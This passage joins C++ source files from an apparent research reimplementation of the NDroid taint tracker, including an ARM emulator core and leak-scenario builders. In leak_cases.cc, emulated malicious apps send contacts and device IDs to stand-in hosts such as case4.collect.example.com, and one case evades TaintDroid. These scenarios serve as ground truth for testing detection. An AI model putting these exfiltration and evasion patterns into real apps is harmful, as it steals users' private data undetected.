  Method* contacts = device.framework.contacts->find_method("queryContacts");

  CodeBuilder cb;
  cb.invoke(contacts, {})
      .move_result(2)        // v2 -> args[2]
      .const_string(0, "")   // args[0..6] mostly empty strings
      .const_string(1, "")
      .const_string(3, "")
      .const_string(4, "")
      .const_string(5, "")
      .const_string(6, "")
      .const_imm(7, 0)       // args[7] (I)
      .const_imm(8, 0)       // args[8] (I)
      .invoke(callregister, {0, 1, 2, 3, 4, 5, 6, 7, 8})
      .return_void();
  Method* entry = dvm.define_method(app, "main", "V",
                                    kAccPublic | kAccStatic, 9, cb.take());
  return LeakScenario{entry, "softphone.comwave.net",
                      "ePhone: contacts SIP-registered by native code (2)"};
}

}  // namespace ndroid::apps
