// Helper for authoring third-party native libraries (.so images).
//
// Scenario apps assemble their JNI methods at the library's final load
// address (no relocation machinery needed), embed string literals and data
// buffers in the image, and install the result into the Device.
#pragma once

#include <string>

#include "android/device.h"
#include "arm/assembler.h"

namespace ndroid::apps {

class NativeLibBuilder {
 public:
  NativeLibBuilder(android::Device& device, std::string name)
      : device_(device),
        name_(std::move(name)),
        asm_(device.next_lib_base()) {}

  arm::Assembler& a() { return asm_; }

  /// Marks the current position as a function entry point.
  GuestAddr fn() {
    asm_.align(4);
    return asm_.here();
  }

  GuestAddr cstr(std::string_view s) { return asm_.cstring(s); }

  /// Reserves a zero-initialised buffer inside the image.
  GuestAddr buffer(u32 size) {
    asm_.align(4);
    const GuestAddr addr = asm_.here();
    for (u32 i = 0; i < (size + 3) / 4; ++i) asm_.word(0);
    return addr;
  }

  /// Installs the image into the device; the builder must not be used after.
  GuestAddr install() {
    return device_.load_native_lib(name_, asm_.finish());
  }

 private:
  android::Device& device_;
  std::string name_;
  arm::Assembler asm_;
};

}  // namespace ndroid::apps
