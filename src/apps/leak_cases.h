// The five information-leak scenarios of paper Table I / Fig. 3.
//
// Each builder assembles a malicious app (Java bytecode + a third-party
// native library) into a Device and returns the Java entry point to run.
// Ground truth for every case: sensitive data genuinely leaves the device
// (network packet or file write), so detection results can be scored
// against reality.
//
//   case 1  — Java source -> native processing -> Java sink.
//             (TaintDroid detects: JNI return-value policy.)
//   case 1' — Java source -> native stores it; a second JNI call returns it
//             to Java; Java sink. (TaintDroid misses.)
//   case 2  — Java source -> native code sends it out itself.
//             (TaintDroid misses: no native sinks.)
//   case 3  — data enters native, native pushes it back to Java via
//             CallVoidMethod; Java sink. (TaintDroid misses: dvmCallMethod*
//             clears taint slots.)
//   case 4  — native pulls sensitive data from the Java context through JNI
//             (CallObjectMethod on a source) and leaks it natively.
//             (TaintDroid misses.)
#pragma once

#include "android/device.h"

namespace ndroid::apps {

struct LeakScenario {
  dvm::Method* entry = nullptr;   // Java method to invoke (no args)
  std::string sink_destination;   // where the data ends up
  std::string description;
};

LeakScenario build_case1(android::Device& device);
LeakScenario build_case1_prime(android::Device& device);
LeakScenario build_case2(android::Device& device);
LeakScenario build_case3(android::Device& device);
LeakScenario build_case4(android::Device& device);

/// All five, keyed by the paper's case names.
std::vector<std::pair<std::string, LeakScenario (*)(android::Device&)>>
all_cases();

}  // namespace ndroid::apps
