// The real applications from the paper's evaluation (§VI), rebuilt from the
// information-flow structure documented in Figs. 6 and 7:
//
//  * QQPhoneBook 3.5 — Lcom/tencent/tccsync/LoginUtil;:
//    makeLoginRequestPackageMd5 (shorty IILLLLLLLLII) receives SMS+contacts
//    data in args[3] (taint 0x202); the native library keeps it; getPostUrl
//    later wraps it into a new String via NewStringUTF and Java posts it to
//    sync.3g.qq.com. A case-1' flow.
//
//  * ePhone 3.3 — Lcom/vnet/asip/general/general;: callregister (shorty
//    ILLLLLLLII) receives contact data in args[2] (taint 0x2); the native
//    code converts it with GetStringUTFChars, builds a SIP REGISTER with
//    memcpy/sprintf, and sendto()s it to softphone.comwave.net. A case-2
//    flow.
#pragma once

#include "apps/leak_cases.h"

namespace ndroid::apps {

LeakScenario build_qq_phonebook(android::Device& device);
LeakScenario build_ephone(android::Device& device);

}  // namespace ndroid::apps
