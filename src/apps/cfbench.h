// CF-Bench analog (paper §VI-E / Fig. 10).
//
// The paper measures NDroid's overhead with Chainfire's CF-Bench, reporting
// per-category slowdowns versus a vanilla emulator. This app reproduces the
// benchmark's category structure:
//
//   Native MIPS / Java MIPS            — integer ALU loops
//   Native MSFLOPS / Java MSFLOPS      — single-precision FP loops
//   Native MDFLOPS / Java MDFLOPS      — "double" FP loops (the emulated
//                                         core has no VFP; the native side
//                                         uses 64-bit integer multiplies and
//                                         libm calls — documented
//                                         substitution preserving the
//                                         arithmetic-heavy profile)
//   Native MALLOCS                     — malloc/free churn
//   Native/Java Memory Read/Write      — sequential buffer sweeps
//   Native Disk Read / Disk Write      — read()/write() syscall loops
//
// Each workload is a callable method on the device, parameterised by an
// iteration count; the Fig. 10 bench runs every workload under each analysis
// configuration and reports wall-clock ratios.
#pragma once

#include <string>
#include <vector>

#include "android/device.h"

namespace ndroid::apps {

struct CfWorkload {
  std::string name;   // e.g. "Native MIPS"
  bool java = false;  // Java-side (interpreted) vs native-side
  dvm::Method* method = nullptr;  // f(int iterations) -> int
};

class CfBenchApp {
 public:
  explicit CfBenchApp(android::Device& device);

  [[nodiscard]] const std::vector<CfWorkload>& workloads() const {
    return workloads_;
  }
  [[nodiscard]] const CfWorkload* find(std::string_view name) const;

  /// Runs one workload; returns its checksum result.
  u32 run(const CfWorkload& workload, u32 iterations);

 private:
  android::Device& device_;
  std::vector<CfWorkload> workloads_;
};

}  // namespace ndroid::apps
