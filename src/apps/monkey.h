// Random input driver — the Monkeyrunner analog from the paper's evaluation
// methodology (§VI: "we first used one simple tool (i.e., Monkeyrunner) to
// generate random input to drive those 37,506 apps using JNI").
//
// The driver invokes randomly chosen public entry points of an app's classes
// with synthesized arguments (random ints; fresh strings for L-parameters)
// and reports which invocations triggered leak detections. Like the paper's
// tool it explores one path at a time and can miss functionality — the
// limitation §VII discusses ("simple tools like monkeyrunner cannot
// enumerate all possible paths").
#pragma once

#include <string>
#include <vector>

#include "android/device.h"

namespace ndroid::apps {

struct MonkeyEvent {
  std::string method;   // class descriptor + method name
  bool threw = false;   // invocation faulted (exploration continues)
  u32 leaks_after = 0;  // cumulative leak count after this event
};

struct MonkeyReport {
  std::vector<MonkeyEvent> events;
  u32 total_leaks = 0;
  /// Method whose invocation first produced a leak, if any.
  std::string first_leaking_method;
};

class Monkey {
 public:
  Monkey(android::Device& device, u64 seed) : device_(device), seed_(seed) {}

  /// Registers an app class whose public static methods become event
  /// targets.
  void add_target(dvm::ClassObject* cls);

  /// Fires `events` random invocations; `leak_count` is polled after each
  /// (callers wire it to framework + NDroid leak counts).
  MonkeyReport run(u32 events, const std::function<u32()>& leak_count);

 private:
  android::Device& device_;
  u64 seed_;
  std::vector<dvm::Method*> targets_;
};

}  // namespace ndroid::apps
