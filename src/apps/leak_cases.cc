#include "apps/leak_cases.h"

#include "apps/native_lib_builder.h"

namespace ndroid::apps {

using arm::IP;
using arm::LR;
using arm::PC;
using arm::R;
using arm::SP;
using dvm::CodeBuilder;
using dvm::kAccPublic;
using dvm::kAccStatic;
using dvm::Method;

namespace {

/// Finds framework pieces used by every scenario.
struct Fw {
  Method* send;
  Method* query_contacts;
  Method* get_device_id;

  explicit Fw(android::Device& d)
      : send(d.framework.network->find_method("send")),
        query_contacts(d.framework.contacts->find_method("queryContacts")),
        get_device_id(d.framework.telephony->find_method("getDeviceId")) {}
};

}  // namespace

// ---------------------------------------------------------------------------
// Case 1: Java source -> native processing -> Java sink.
// ---------------------------------------------------------------------------

LeakScenario build_case1(android::Device& device) {
  NativeLibBuilder lib(device, "libcase1.so");
  auto& a = lib.a();

  // jstring process(JNIEnv*, jclass, jstring): identity "processing".
  const GuestAddr fn_process = lib.fn();
  a.mov(R(0), R(2));
  a.ret();
  lib.install();

  auto& dvm = device.dvm;
  Fw fw(device);
  dvm::ClassObject* app = dvm.define_class("Lcase1/App;");
  Method* process =
      dvm.define_native(app, "process", "LL", kAccPublic | kAccStatic,
                        fn_process);

  CodeBuilder cb;
  cb.invoke(fw.get_device_id, {})
      .move_result(0)
      .invoke(process, {0})
      .move_result(1)
      .const_string(2, "case1.collect.example.com")
      .invoke(fw.send, {2, 1})
      .return_void();
  Method* entry = dvm.define_method(app, "main", "V",
                                    kAccPublic | kAccStatic, 3, cb.take());
  return LeakScenario{entry, "case1.collect.example.com",
                      "Java source -> native -> Java sink (case 1)"};
}

// ---------------------------------------------------------------------------
// Case 1': the native library stores the secret; a later JNI call hands it
// back to Java through a new String object (QQPhoneBook's structure).
// ---------------------------------------------------------------------------

LeakScenario build_case1_prime(android::Device& device) {
  NativeLibBuilder lib(device, "libcase1p.so");
  auto& a = lib.a();
  const GuestAddr get_utf = device.jni.fn("GetStringUTFChars");
  const GuestAddr new_utf = device.jni.fn("NewStringUTF");
  const GuestAddr strcpy_fn = device.libc.fn("strcpy");

  // Data is placed after the code; reserve the label positions first by
  // assembling code that references fixed addresses computed up front.
  // Layout: [storeSecret][getPostUrl][buf 256]
  // Two-pass trick: buffer address depends only on code size, so assemble
  // with a placeholder... keep it simple: put the buffer FIRST.
  const GuestAddr buf = lib.buffer(256);

  // void storeSecret(JNIEnv*, jclass, jstring)
  const GuestAddr fn_store = lib.fn();
  a.push({R(4), R(5), LR});
  a.mov(R(4), R(0));      // env
  a.mov(R(1), R(2));      // jstring
  a.mov(R(0), R(4));
  a.mov_imm(R(2), 0);
  a.call(get_utf);        // r0 = C string
  a.mov(R(1), R(0));
  a.mov_imm32(R(0), buf);
  a.call(strcpy_fn);      // strcpy(buf, p)
  a.mov_imm(R(0), 0);
  a.pop({R(4), R(5), PC});

  // jstring getPostUrl(JNIEnv*, jclass)
  const GuestAddr fn_get = lib.fn();
  a.push({R(4), LR});
  a.mov_imm32(R(1), buf);
  a.call(new_utf);        // NewStringUTF(env, buf) — env already in r0
  a.pop({R(4), PC});
  lib.install();

  auto& dvm = device.dvm;
  Fw fw(device);
  dvm::ClassObject* app = dvm.define_class("Lcase1p/App;");
  Method* store = dvm.define_native(app, "storeSecret", "VL",
                                    kAccPublic | kAccStatic, fn_store);
  Method* get = dvm.define_native(app, "getPostUrl", "L",
                                  kAccPublic | kAccStatic, fn_get);

  CodeBuilder cb;
  cb.invoke(fw.query_contacts, {})
      .move_result(0)
      .invoke(store, {0})
      .invoke(get, {})
      .move_result(1)
      .const_string(2, "case1p.collect.example.com")
      .invoke(fw.send, {2, 1})
      .return_void();
  Method* entry = dvm.define_method(app, "main", "V",
                                    kAccPublic | kAccStatic, 3, cb.take());
  return LeakScenario{entry, "case1p.collect.example.com",
                      "native intermediate returns secret to Java (case 1')"};
}

// ---------------------------------------------------------------------------
// Case 2: the native code itself writes the secret out (PoC of Fig. 8:
// recordContact -> GetStringUTFChars x3 -> fopen -> fprintf -> fclose).
// ---------------------------------------------------------------------------

LeakScenario build_case2(android::Device& device) {
  NativeLibBuilder lib(device, "libcase2.so");
  auto& a = lib.a();
  const GuestAddr get_utf = device.jni.fn("GetStringUTFChars");
  const GuestAddr fopen_fn = device.libc.fn("fopen");
  const GuestAddr fprintf_fn = device.libc.fn("fprintf");
  const GuestAddr fclose_fn = device.libc.fn("fclose");

  const GuestAddr path = lib.cstr("/sdcard/CONTACTS");
  const GuestAddr mode = lib.cstr("w");
  const GuestAddr fmt = lib.cstr("%s %s %s ");

  // jboolean recordContact(JNIEnv*, jclass, jstring id, jstring name,
  //                        jstring email)
  const GuestAddr fn_record = lib.fn();
  a.push({R(4), R(5), R(6), R(7), LR});
  a.mov(R(4), R(0));        // env
  a.mov(R(5), R(2));        // id iref
  a.mov(R(6), R(3));        // name iref
  a.ldr(R(7), SP, 20);      // email iref (5th JNI arg, stacked)
  // id = GetStringUTFChars(env, id, 0)
  a.mov(R(0), R(4));
  a.mov(R(1), R(5));
  a.mov_imm(R(2), 0);
  a.call(get_utf);
  a.mov(R(5), R(0));
  // name
  a.mov(R(0), R(4));
  a.mov(R(1), R(6));
  a.mov_imm(R(2), 0);
  a.call(get_utf);
  a.mov(R(6), R(0));
  // email
  a.mov(R(0), R(4));
  a.mov(R(1), R(7));
  a.mov_imm(R(2), 0);
  a.call(get_utf);
  a.mov(R(7), R(0));
  // f = fopen("/sdcard/CONTACTS", "w")
  a.mov_imm32(R(0), path);
  a.mov_imm32(R(1), mode);
  a.call(fopen_fn);
  a.mov(R(4), R(0));        // FILE*
  // fprintf(f, "%s %s %s ", id, name, email)
  a.sub_imm(SP, SP, 8);
  a.str(R(7), SP, 0);
  a.mov(R(0), R(4));
  a.mov_imm32(R(1), fmt);
  a.mov(R(2), R(5));
  a.mov(R(3), R(6));
  a.call(fprintf_fn);
  a.add_imm(SP, SP, 8);
  // fclose(f)
  a.mov(R(0), R(4));
  a.call(fclose_fn);
  a.mov_imm(R(0), 1);
  a.pop({R(4), R(5), R(6), R(7), PC});
  lib.install();

  auto& dvm = device.dvm;
  dvm::ClassObject* app = dvm.define_class("Lcom/ndroid/demos/Demos;");
  Method* record = dvm.define_native(app, "recordContact", "ZLLL",
                                     kAccPublic | kAccStatic, fn_record);
  Method* id_src = device.framework.contacts->find_method("getContactId");
  Method* name_src = device.framework.contacts->find_method("getContactName");
  Method* mail_src =
      device.framework.contacts->find_method("getContactEmail");

  CodeBuilder cb;
  cb.invoke(id_src, {})
      .move_result(0)
      .invoke(name_src, {})
      .move_result(1)
      .invoke(mail_src, {})
      .move_result(2)
      .invoke(record, {0, 1, 2})
      .return_void();
  Method* entry = dvm.define_method(app, "main", "V",
                                    kAccPublic | kAccStatic, 3, cb.take());
  return LeakScenario{entry, "/sdcard/CONTACTS",
                      "native writes contacts to a file (case 2)"};
}

// ---------------------------------------------------------------------------
// Case 3: data enters the native context, which pushes it back to Java via
// NewStringUTF + CallStaticVoidMethodA (PoC of Fig. 9: evadeTaintDroid ->
// nativeCallback).
// ---------------------------------------------------------------------------

LeakScenario build_case3(android::Device& device) {
  NativeLibBuilder lib(device, "libcase3.so");
  auto& a = lib.a();
  const GuestAddr get_utf = device.jni.fn("GetStringUTFChars");
  const GuestAddr new_utf = device.jni.fn("NewStringUTF");
  const GuestAddr find_class = device.jni.fn("FindClass");
  const GuestAddr get_mid = device.jni.fn("GetStaticMethodID");
  const GuestAddr call_void_a = device.jni.fn("CallStaticVoidMethodA");

  const GuestAddr cls_name = lib.cstr("com/ndroid/demos/Evade");
  const GuestAddr mth_name = lib.cstr("nativeCallback");
  const GuestAddr mth_sig = lib.cstr("(Ljava/lang/String;)V");

  // void evadeTaintDroid(JNIEnv*, jclass, jstring)
  const GuestAddr fn_evade = lib.fn();
  a.push({R(4), R(5), R(6), R(7), LR});
  a.mov(R(4), R(0));  // env
  a.mov(R(5), R(2));  // jstring
  // p = GetStringUTFChars(env, jstr, 0)
  a.mov(R(0), R(4));
  a.mov(R(1), R(5));
  a.mov_imm(R(2), 0);
  a.call(get_utf);
  // jstr2 = NewStringUTF(env, p)
  a.mov(R(1), R(0));
  a.mov(R(0), R(4));
  a.call(new_utf);
  a.mov(R(5), R(0));  // new iref
  // cls = FindClass(env, "com/ndroid/demos/Evade")
  a.mov(R(0), R(4));
  a.mov_imm32(R(1), cls_name);
  a.call(find_class);
  a.mov(R(6), R(0));
  // mid = GetStaticMethodID(env, cls, "nativeCallback", sig)
  a.mov(R(0), R(4));
  a.mov(R(1), R(6));
  a.mov_imm32(R(2), mth_name);
  a.mov_imm32(R(3), mth_sig);
  a.call(get_mid);
  a.mov(R(7), R(0));
  // CallStaticVoidMethodA(env, cls, mid, {jstr2})
  a.sub_imm(SP, SP, 8);
  a.str(R(5), SP, 0);
  a.mov(R(0), R(4));
  a.mov(R(1), R(6));
  a.mov(R(2), R(7));
  a.mov(R(3), SP);
  a.call(call_void_a);
  a.add_imm(SP, SP, 8);
  a.pop({R(4), R(5), R(6), R(7), PC});
  lib.install();

  auto& dvm = device.dvm;
  Fw fw(device);
  dvm::ClassObject* app = dvm.define_class("Lcom/ndroid/demos/Evade;");

  // void nativeCallback(String): Java sends the data out.
  CodeBuilder cb_callback;
  cb_callback.const_string(0, "case3.collect.example.com")
      .invoke(fw.send, {0, 2})
      .return_void();
  dvm.define_method(app, "nativeCallback", "VL", kAccPublic | kAccStatic, 3,
                    cb_callback.take());

  Method* evade = dvm.define_native(app, "evadeTaintDroid", "VL",
                                    kAccPublic | kAccStatic, fn_evade);
  Method* concat = device.framework.string_ops->find_method("concat");
  Method* get_operator =
      device.framework.telephony->find_method("getNetworkOperator");

  CodeBuilder cb;
  cb.invoke(fw.get_device_id, {})
      .move_result(0)
      .invoke(get_operator, {})
      .move_result(1)
      .invoke(concat, {0, 1})
      .move_result(2)
      .invoke(evade, {2})
      .return_void();
  Method* entry = dvm.define_method(app, "main", "V",
                                    kAccPublic | kAccStatic, 3, cb.take());
  return LeakScenario{entry, "case3.collect.example.com",
                      "native returns secret to Java via callback (case 3)"};
}

// ---------------------------------------------------------------------------
// Case 4: the native code pulls sensitive data out of the Java context
// itself (CallStaticObjectMethod on a source) and leaks it natively.
// ---------------------------------------------------------------------------

LeakScenario build_case4(android::Device& device) {
  NativeLibBuilder lib(device, "libcase4.so");
  auto& a = lib.a();
  const GuestAddr find_class = device.jni.fn("FindClass");
  const GuestAddr get_mid = device.jni.fn("GetStaticMethodID");
  const GuestAddr call_obj_a = device.jni.fn("CallStaticObjectMethodA");
  const GuestAddr get_utf = device.jni.fn("GetStringUTFChars");
  const GuestAddr socket_fn = device.libc.fn("socket");
  const GuestAddr connect_fn = device.libc.fn("connect");
  const GuestAddr send_fn = device.libc.fn("send");
  const GuestAddr strlen_fn = device.libc.fn("strlen");

  const GuestAddr tel_name = lib.cstr("android/telephony/TelephonyManager");
  const GuestAddr mth_name = lib.cstr("getDeviceId");
  const GuestAddr host = lib.cstr("case4.collect.example.com");

  // void exfiltrate(JNIEnv*, jclass)
  const GuestAddr fn_exfil = lib.fn();
  a.push({R(4), R(5), R(6), R(7), LR});
  a.mov(R(4), R(0));  // env
  // cls = FindClass(env, "android/telephony/TelephonyManager")
  a.mov_imm32(R(1), tel_name);
  a.call(find_class);
  a.mov(R(5), R(0));
  // mid = GetStaticMethodID(env, cls, "getDeviceId", 0)
  a.mov(R(0), R(4));
  a.mov(R(1), R(5));
  a.mov_imm32(R(2), mth_name);
  a.mov_imm(R(3), 0);
  a.call(get_mid);
  // jstr = CallStaticObjectMethodA(env, cls, mid, nullptr)
  a.mov(R(2), R(0));
  a.mov(R(0), R(4));
  a.mov(R(1), R(5));
  a.mov_imm(R(3), 0);
  a.call(call_obj_a);
  a.mov(R(7), R(0));
  // p = GetStringUTFChars(env, jstr, 0)
  a.mov(R(0), R(4));
  a.mov(R(1), R(7));
  a.mov_imm(R(2), 0);
  a.call(get_utf);
  a.mov(R(5), R(0));  // p
  // fd = socket(2, 1, 0)
  a.mov_imm(R(0), 2);
  a.mov_imm(R(1), 1);
  a.mov_imm(R(2), 0);
  a.call(socket_fn);
  a.mov(R(6), R(0));
  // connect(fd, host, 80)
  a.mov_imm32(R(1), host);
  a.mov_imm(R(2), 80);
  a.call(connect_fn);
  // n = strlen(p)
  a.mov(R(0), R(5));
  a.call(strlen_fn);
  a.mov(R(2), R(0));
  // send(fd, p, n)
  a.mov(R(0), R(6));
  a.mov(R(1), R(5));
  a.call(send_fn);
  a.mov_imm(R(0), 0);
  a.pop({R(4), R(5), R(6), R(7), PC});
  lib.install();

  auto& dvm = device.dvm;
  dvm::ClassObject* app = dvm.define_class("Lcase4/App;");
  Method* exfil = dvm.define_native(app, "exfiltrate", "V",
                                    kAccPublic | kAccStatic, fn_exfil);
  CodeBuilder cb;
  cb.invoke(exfil, {}).return_void();
  Method* entry = dvm.define_method(app, "main", "V",
                                    kAccPublic | kAccStatic, 1, cb.take());
  return LeakScenario{entry, "case4.collect.example.com",
                      "native pulls secret from Java and leaks it (case 4)"};
}

std::vector<std::pair<std::string, LeakScenario (*)(android::Device&)>>
all_cases() {
  return {
      {"case 1", &build_case1},   {"case 1'", &build_case1_prime},
      {"case 2", &build_case2},   {"case 3", &build_case3},
      {"case 4", &build_case4},
  };
}

}  // namespace ndroid::apps
