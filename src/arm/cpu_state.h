// Architectural state of the emulated ARM core.
//
// NDroid's SourcePolicy handler receives a `CPUState*` (paper Listing 1);
// this struct is that type. Register indices follow the AAPCS: R0-R3 carry
// the first four arguments and the return value lives in R0 (paper §V-B).
#pragma once

#include <array>

#include "common/types.h"

namespace ndroid::arm {

inline constexpr u8 kRegSP = 13;
inline constexpr u8 kRegLR = 14;
inline constexpr u8 kRegPC = 15;

struct CPUState {
  std::array<u32, 16> regs{};

  // CPSR condition flags.
  bool n = false;
  bool z = false;
  bool c = false;
  bool v = false;

  // Execution state: true when executing Thumb instructions (CPSR.T).
  bool thumb = false;

  // Thumb ITSTATE byte (CPSR.IT): zero outside an IT block; otherwise the
  // top four bits hold the condition for the next instruction and the low
  // bits the remaining-length mask (advanced after each instruction).
  u8 itstate = 0;

  [[nodiscard]] u32 sp() const { return regs[kRegSP]; }
  [[nodiscard]] u32 lr() const { return regs[kRegLR]; }
  [[nodiscard]] u32 pc() const { return regs[kRegPC]; }
  void set_sp(u32 v_) { regs[kRegSP] = v_; }
  void set_lr(u32 v_) { regs[kRegLR] = v_; }
  void set_pc(u32 v_) { regs[kRegPC] = v_; }
};

}  // namespace ndroid::arm
