#include "arm/cpu.h"

#include <algorithm>
#include <bit>

#include "arm/jit.h"  // complete JitEngine for ~Cpu / jit_engine_ resets

namespace ndroid::arm {

Cpu::Cpu(mem::AddressSpace& memory, mem::MemoryMap& memmap)
    : memory_(memory), memmap_(memmap) {
  // Self-modifying-code safety: any write into a page holding cached code
  // (guest store or host-side image load) kills the blocks it intersects.
  memory_.set_write_watch(
      tb_cache_.code_page_bitmap(),
      [this](GuestAddr addr, u32 len) { tb_cache_.invalidate_range(addr, len); });
  // And the TLB half of that contract: when cached code first lands on a
  // page, any write-TLB entry cached while the page was unwatched must go,
  // or stores through it would bypass the watch (see address_space.h).
  tb_cache_.set_watch_armed_notifier(
      [this](u32 page) { memory_.tlb_invalidate_write_page(page); });
}

Cpu::~Cpu() { memory_.set_write_watch(nullptr, {}); }

int Cpu::add_insn_hook(InsnHook hook, bool gated) {
  const int id = next_hook_id_++;
  insn_hooks_.push_back({id, gated, std::move(hook)});
  gated_hooks_ += gated;
  // Fused trace streams bake in the hook topology at build time (they are
  // only used while exactly one hook is registered); a topology change
  // while an emitter is installed voids every built stream.
  if (trace_emitter_) flush_blocks();
  return id;
}

void Cpu::remove_insn_hook(int id) {
  std::erase_if(insn_hooks_, [&](const HookEntry& h) {
    if (h.id != id) return false;
    gated_hooks_ -= h.gated;
    return true;
  });
  if (trace_emitter_) flush_blocks();
}

int Cpu::add_branch_hook(BranchHook hook, bool gated) {
  const int id = next_hook_id_++;
  branch_hooks_.push_back({id, gated, std::move(hook)});
  gated_branch_hooks_ += gated;
  return id;
}

void Cpu::remove_branch_hook(int id) {
  std::erase_if(branch_hooks_, [&](const BranchHookEntry& h) {
    if (h.id != id) return false;
    gated_branch_hooks_ -= h.gated;
    return true;
  });
}

void Cpu::set_block_gate(BlockGate gate, const u64* epoch) {
  block_gate_ = std::move(gate);
  block_gate_epoch_ = epoch;
  flush_blocks();
}

void Cpu::set_branch_gate(BranchGate gate, const u64* epoch) {
  branch_gate_ = std::move(gate);
  branch_gate_epoch_ = epoch;
  flush_blocks();  // void any per-block branch memos from a previous gate
}

void Cpu::register_helper(GuestAddr addr, Helper helper) {
  helpers_[addr & ~1u] = std::move(helper);
  // Below the window every run loop skips the helper lookup by default;
  // arm the check, and kill any cached block covering the shadowed address
  // (translation also stops in front of low helpers from now on).
  if ((addr & ~1u) < kHelperWindowBase) has_low_helpers_ = true;
  tb_cache_.invalidate_range(addr & ~1u, 4);
}

GuestAddr Cpu::register_helper_auto(Helper helper) {
  const GuestAddr addr = next_helper_addr_;
  next_helper_addr_ += 4;
  register_helper(addr, std::move(helper));
  return addr;
}

void Cpu::set_use_tb_cache(bool on) {
  if (use_tb_cache_ == on) return;
  use_tb_cache_ = on;
  flush_blocks();
}

void Cpu::set_threaded_enabled(bool on) {
  if (threaded_enabled_ == on) return;
  threaded_enabled_ = on;
  flush_blocks();
}

void Cpu::set_trace_emitter(TraceEmitter emitter) {
  trace_emitter_ = std::move(emitter);
  flush_blocks();
}

void Cpu::flush_blocks() { tb_cache_.flush(); }

void Cpu::fire_branch_hooks(GuestAddr from, GuestAddr to) {
  for (auto& h : branch_hooks_) h.fn(*this, from, to);
}

const Insn& Cpu::decode_cached(u64 key, u32 word, u16 hw2) {
  ++decode_lookups_;
  const u32 index =
      static_cast<u32>((key * 0x9E3779B97F4A7C15ull) >>
                       (64 - kDecodeCacheBits));
  DecodeEntry& entry = decode_cache_[index];
  if (entry.key != key) {
    entry.insn = (key >> 62) == 2 ? decode_thumb(static_cast<u16>(word), hw2)
                                  : decode_arm(word);
    entry.key = key;
  } else {
    ++decode_hits_;
  }
  return entry.insn;
}

const Insn& Cpu::fetch_decode(GuestAddr pc, bool thumb) {
  if (thumb) {
    const u16 hw = memory_.read16(pc);
    if (is_thumb32(hw)) {
      const u16 hw2 = memory_.read16(pc + 2);
      const u64 key = (static_cast<u64>(hw2) << 16) | hw | (2ull << 62);
      return decode_cached(key, hw, hw2);
    }
    // 16-bit encodings key on their own halfword alone, so the same
    // instruction hits the cache regardless of what follows it.
    return decode_cached(static_cast<u64>(hw) | (2ull << 62), hw, 0);
  }
  const u32 word = memory_.read32(pc);
  return decode_cached(static_cast<u64>(word) | (1ull << 62), word, 0);
}

bool Cpu::run_helper(GuestAddr pc) {
  auto it = helpers_.find(pc);
  if (it == helpers_.end()) return false;
  ++retired_;
  const GuestAddr ret = state_.lr();
  it->second(*this);
  if (state_.pc() == pc) {
    state_.thumb = (ret & 1) != 0;
    state_.set_pc(ret & ~1u);
    fire_branch_hooks(pc, state_.pc());
  }
  return true;
}

void Cpu::step() {
  const GuestAddr pc = state_.pc();

  // Helpers normally live in the 0xF0000000+ window; skip the hash lookup
  // for ordinary guest code unless a helper shadows a low address.
  if ((pc >= kHelperWindowBase || has_low_helpers_) && run_helper(pc)) return;

  const Insn& insn = fetch_decode(pc, state_.thumb);

  for (auto& h : insn_hooks_) h.fn(*this, insn, pc);

  if (insn.op == Op::kSvc &&
      condition_passed(effective_cond(insn, state_), state_)) {
    if (!svc_handler_) throw GuestFault("SVC with no kernel attached");
    if (state_.thumb && state_.itstate != 0) advance_itstate(state_);
    state_.set_pc(pc + insn.length);
    ++retired_;
    svc_handler_(*this, insn.imm);
    return;
  }

  execute(insn, state_, memory_);
  ++retired_;

  if (state_.pc() != pc + insn.length) fire_branch_hooks(pc, state_.pc());
}

std::shared_ptr<TranslationBlock> Cpu::translate(GuestAddr pc, bool thumb) {
  auto tb = std::make_shared<TranslationBlock>();
  tb->pc = pc;
  tb->thumb = thumb;
  GuestAddr cur = pc;
  u32 it_left = 0;  // instructions still covered by a decoded IT
  while (tb->insns.size() < TbCache::kMaxBlockInsns) {
    // Never fall through into the helper window — or onto a helper that
    // shadows ordinary guest code: the run loop must regain control there
    // to dispatch helpers.
    if (cur >= kHelperWindowBase) break;
    if (has_low_helpers_ && cur != pc && helpers_.count(cur) != 0) break;
    const Insn& insn = fetch_decode(cur, thumb);
    if (insn.op == Op::kUndefined) break;  // step() raises the fault
    if (insn.op == Op::kIt) {
      const u32 len =
          4 - static_cast<u32>(std::countr_zero(insn.imm & 0xFu));
      // Never split an IT block across translation blocks: the covered
      // instructions must live in the same block as the IT so their
      // conditional (un-fusable) treatment below is always applied.
      if (tb->insns.size() + 1 + len > TbCache::kMaxBlockInsns) break;
      it_left = len;
    }
    TbInsn ti;
    ti.insn = insn;
    ti.pc = cur;
    ti.taint_class = insn.taint_class();
    if (it_left > 0 && insn.op != Op::kIt) {
      // IT'd instructions execute conditionally and must suppress flag
      // writes; only the general execute() path understands ITSTATE.
      ti.fast = nullptr;
      --it_left;
    } else {
      ti.fast = select_fast_exec(insn);
      if (ti.fast == nullptr) ti.fast = select_fast_mem(insn);
    }
    switch (ti.taint_class) {
      case TaintClass::kLoad:
      case TaintClass::kLdm:
        tb->has_loads = true;
        break;
      case TaintClass::kStore:
      case TaintClass::kStm:
        tb->has_stores = true;
        break;
      default:
        break;
    }
    if (insn.op == Op::kSvc) tb->has_svc = true;
    tb->insns.push_back(ti);
    cur += insn.length;
    tb->byte_length += insn.length;
    if (ends_block(insn)) break;
  }
  if (tb->insns.empty()) return nullptr;
  if (tb->insns.size() >= 2) {
    // Peephole: a block ending in an ALU + direct branch pair (`cmp …;
    // b<cond>`, `subs …; bne`, `add …; b` — the loop idioms) replays the
    // pair through one fused handler. Requiring both individual fast
    // handlers keeps IT'd and odd-shaped pairs on per-insn dispatch.
    const TbInsn& a = tb->insns[tb->insns.size() - 2];
    const TbInsn& b = tb->insns.back();
    if (a.fast != nullptr && b.fast != nullptr) {
      tb->tail = select_fused_pair(a.insn, b.insn);
    }
  }
  return tb;
}

bool Cpu::is_branch_quiet(TranslationBlock& tb, GuestAddr from, GuestAddr to) {
  if (branch_hooks_.empty()) return true;
  if (!branch_gate_ ||
      gated_branch_hooks_ != static_cast<int>(branch_hooks_.size())) {
    return false;
  }
  // Only a PC-writing instruction can take a branch and every such
  // instruction terminates its block, so the source of any taken branch
  // from this block is fixed — (block, to) identifies the edge and the
  // per-block memo is sound under the client's epoch counter.
  if (branch_gate_epoch_ != nullptr &&
      tb.branch_epoch == *branch_gate_epoch_ && tb.branch_to == to) {
    return tb.branch_quiet;
  }
  const bool quiet = !branch_gate_(*this, from, to);
  if (branch_gate_epoch_ != nullptr) {
